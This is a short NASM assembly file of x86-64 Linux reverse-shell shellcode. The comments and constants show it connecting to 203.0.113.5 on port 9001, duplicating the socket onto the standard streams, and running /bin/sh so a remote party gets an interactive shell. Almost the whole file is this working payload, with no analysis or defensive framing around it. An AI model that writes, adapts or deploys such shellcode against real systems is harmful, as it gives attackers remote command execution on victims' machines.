; Linux, 64 bit: connects to 203.0.113.5 port 9001 and hands the connection to a shell.
bits 64
%ifndef PORT
%define PORT 9001
%define ADDRESS 0x057100cb     ; 203.0.113.5
%endif
        push 41
        pop rax
        cdq
        push 2
        pop rdi
        push 1
        pop rsi
        syscall
        xchg rdi, rax
        mov rcx, (ADDRESS << 32) | ((PORT & 255) << 24) | ((PORT >> 8) << 16) | 2
        push rcx
        mov rsi, rsp
        push 16
        pop rdx
        push 42
        pop rax
        syscall
        push 3
        pop rsi
again:  dec rsi
        push 33
        pop rax
        syscall
        jnz again
        push 59
        pop rax
        cdq
        mov rbx, '/bin/sh'
        push rbx
        mov rdi, rsp
        push rdx
        push rdi
        mov rsi, rsp
        syscall
